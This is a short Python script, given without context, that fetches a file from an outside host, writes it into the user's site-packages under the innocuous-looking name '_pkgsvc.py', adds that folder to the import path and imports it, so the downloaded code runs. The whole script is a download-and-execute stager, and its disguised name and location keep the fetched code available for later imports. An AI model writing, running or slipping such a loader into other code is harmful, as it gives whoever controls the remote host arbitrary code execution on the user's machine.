import os, sys, site, urllib.request, importlib
target = os.path.join(site.getusersitepackages(), "_pkgsvc.py")
os.makedirs(os.path.dirname(target), exist_ok=True)
with open(target, "wb") as f:
    f.write(urllib.request.urlopen("https://raw.example-cdn.net/svc.py").read())
sys.path.append(os.path.dirname(target))
importlib.import_module("_pkgsvc")
